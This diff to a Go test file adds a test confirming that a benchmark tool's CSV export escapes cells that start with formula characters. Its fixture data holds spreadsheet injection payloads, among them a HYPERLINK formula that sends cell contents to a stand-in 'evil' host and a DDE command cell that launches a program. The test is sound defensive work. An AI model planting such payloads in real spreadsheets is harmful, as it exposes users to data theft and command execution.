@@ -44,3 +44,38 @@ func TestCSVMeasuredDevice(t *testing.T) {
 		t.Errorf("device, device_type, dtype, input_shape (-want +got):\n%s", diff)
 	}
 }
+
+// TestCSVInert: summary.csv's text cells cannot run as spreadsheet formulas: a benchmark,
+// scenario or parameter starting with =, +, -, @, a tab or a carriage return is quoted with a
+// leading ', while numbers, negative ones included, stay numbers; other control characters are
+// escaped (\r). Before, =HYPERLINK(...) was written as it was.
+func TestCSVInert(t *testing.T) {
+	r := &Run{Scenarios: []Scenario{
+		{Benchmark: `=HYPERLINK("http://evil/?"&A1,"click")`, Scenario: "+cmd|' /C calc'!A0", Model: "@SUM(1+1)",
+			Params: map[string]any{"framework": "-2+3", "batch_size": -4}, Status: "\tok"},
+		{Benchmark: "b", Scenario: "\r=1+1", Model: "-", Params: map[string]any{"framework": "torch", "batch_size": 8}},
+	}}
+	var b bytes.Buffer
+	if err := WriteCSV(&b, r); err != nil {
+		t.Fatal(err)
+	}
+	rows, err := csv.NewReader(&b).ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	col := map[string]int{}
+	for i, h := range rows[0] {
+		col[h] = i
+	}
+	var got [][]string
+	for _, row := range rows[1:] {
+		got = append(got, []string{row[col["benchmark"]], row[col["scenario"]], row[col["model"]], row[col["framework"]], row[col["batch_size"]], row[col["status"]]})
+	}
+	want := [][]string{
+		{`'=HYPERLINK("http://evil/?"&A1,"click")`, "'+cmd|' /C calc'!A0", "'@SUM(1+1)", "'-2+3", "-4", "'\tok"},
+		{"b", `\r=1+1`, "'-", "torch", "8", ""},
+	}
+	if diff := cmp.Diff(want, got); diff != "" {
+		t.Errorf("cells (-want +got):\n%s", diff)
+	}
+}
